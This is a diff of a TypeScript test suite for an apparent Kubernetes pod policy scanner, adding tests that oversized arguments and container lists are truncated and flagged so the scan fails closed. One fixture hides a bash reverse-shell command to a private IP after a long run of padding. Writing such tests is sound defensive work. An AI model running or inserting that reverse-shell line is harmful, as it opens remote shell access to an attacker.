@@ -1,6 +1,7 @@
 import { expect } from 'chai';
 import { evaluate } from '../../../src/engine/evaluate.ts';
 import { planRemediation } from '../../../src/engine/plan.ts';
+import { sanitizePod } from '../../../src/engine/sanitize.ts';
 import { compiled, podJson, view, type Json } from '../builders.ts';
 
 const NOW = new Date('2026-11-25T10:00:00Z');
@@ -135,18 +136,33 @@ describe('evaluate: violations', () => {
       'medium/b/ownership.barePod',
     ]);
   });
-  it('reports oversized fields as rule errors, still judging the rest', () => {
-    const pod = escapePod(
-      {},
-      { containers: [{ name: 'c', image: 'x:1', args: ['y'.repeat(70_000)] }] },
+  it('fails closed on fields cut to the bounds: input.oversized, and the rest still judged', () => {
+    const padded = `${'#'.repeat(140_000)}; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`;
+    const s = sanitizePod(
+      escapePod({}, { containers: [{ name: 'c', image: 'x:1', args: [padded] }] }),
     );
-    const ev = evaluate(view(pod), [compiled({ rules: hostPathRule })], {
+    expect(s?.truncated).to.deep.equal(['spec.containers[0].args[0]']);
+    const ev = evaluate(s!.pod, [compiled({ rules: { ...hostPathRule, indicators: {} } })], {
       namespaceLabels: {},
       now: NOW,
-      truncated: ['spec.containers[0].args[0]'],
+      truncated: s!.truncated,
     });
-    expect(ev.violations).to.have.length(1);
-    expect(ev.errors[0]?.message).to.contain('spec.containers[0].args[0]');
+    expect(ev.violations.map((v) => [v.rule, v.severity, v.path])).to.deep.equal([
+      ['hostPath.sensitive', 'critical', 'spec.volumes[0].hostPath.path'],
+      ['input.oversized', 'high', 'spec.containers[0].args[0]'],
+    ]);
+    expect(ev.errors).to.deep.equal([]);
+  });
+  it('fails closed on lists cut to the bounds: the 1,025th container is not a hiding place', () => {
+    const many = Array.from({ length: 1025 }, (_, i) => ({ name: `c${i}`, image: 'x:1' }));
+    const s = sanitizePod(podJson({ containers: many }));
+    expect(s?.truncated).to.deep.equal(['spec.containers']);
+    const ev = evaluate(s!.pod, [compiled({ rules: { ownership: {} } })], {
+      namespaceLabels: {},
+      now: NOW,
+      truncated: s!.truncated,
+    });
+    expect(ev.violations.map((v) => v.rule)).to.include('input.oversized');
   });
 });
 
